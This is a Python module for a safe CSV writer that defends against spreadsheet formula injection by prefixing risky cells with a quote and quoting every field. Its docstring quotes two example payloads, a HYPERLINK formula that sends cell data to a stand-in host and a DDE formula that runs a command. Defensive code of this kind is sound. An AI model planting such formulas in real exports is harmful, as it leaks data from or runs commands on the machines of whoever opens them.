"""The one CSV writer for every CSV the engine hands out: RFC 4180 text that is safe to open in a spreadsheet.

Spreadsheets (Excel, LibreOffice Calc, Google Sheets) run a cell as a formula when its text starts with
``=``, ``+``, ``-`` or ``@``, and Excel also after a leading tab or carriage return; a cell such as
``=HYPERLINK("http://evil.example/?"&A1)`` or the DDE payload ``=cmd|' /C calc'!A0`` then leaks data or runs
a command on the machine of whoever opens the export. Following OWASP's CSV Injection guidance
(https://owasp.org/www-community/attacks/CSV_Injection) and ASVS 5.0 requirement 1.2.10:

- a text cell whose first character, or whose first character after leading whitespace, is one of
  ``= + - @``, tab, carriage return or NUL (and the full-width forms ``＝ ＋ － ＠``, which some spreadsheet
  locales read the same way) is prefixed with a single quote ``'``, which spreadsheets take as "this is
  text" and do not show;
- every field is quoted (``QUOTE_ALL``), so a separator inside a cell (``a;=1+1``) cannot start a new cell
  in a spreadsheet whose locale splits on another character;
- numbers stay numbers: only text cells are changed (a negative count is not a formula).

The cost is that a plain-text consumer sees the added quote, e.g. an address column value ``-x@example.org``
comes back as ``'-x@example.org``. That is the trade-off OWASP recommends; docs/validation.md says it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import IO

__all__ = ["FORMULA_TRIGGERS", "SafeCsvWriter", "csv_chunks", "neutralise_cell"]

FORMULA_TRIGGERS = frozenset("=+-@\t\r\0＝＋－＠")
# Leading whitespace a spreadsheet may skip before reading a formula (tab and CR are triggers themselves).
_LEADING_SPACE = " \n\x0b\x0c\xa0\u3000"


def neutralise_cell(value: str) -> str:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula; unchanged otherwise."""
    stripped = value.lstrip(_LEADING_SPACE)
    return "'" + value if stripped and stripped[0] in FORMULA_TRIGGERS else value


def _cell(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise_cell(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    return neutralise_cell(str(value))


class SafeCsvWriter:
    """``csv.writer`` with every field quoted and every text cell neutralised (see the module docstring)."""

    def __init__(
        self, handle: IO[str], *, delimiter: str = ",", quotechar: str = '"', lineterminator: str = "\r\n"
    ) -> None:
        self._writer = csv.writer(
            handle,
            delimiter=delimiter,
            quotechar=quotechar,
            lineterminator=lineterminator,
            quoting=csv.QUOTE_ALL,
        )

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([_cell(value) for value in row])


def csv_chunks(
    header: Iterable[str], rows: Iterable[Iterable[object]], *, rows_per_chunk: int = 1000
) -> Iterator[str]:
    """CSV text in chunks for a streaming response: the header line, then ``rows`` (read lazily)."""
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerow(header)
    pending = 0
    for row in rows:
        writer.writerow(row)
        pending += 1
        if pending >= rows_per_chunk:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    yield buffer.getvalue()
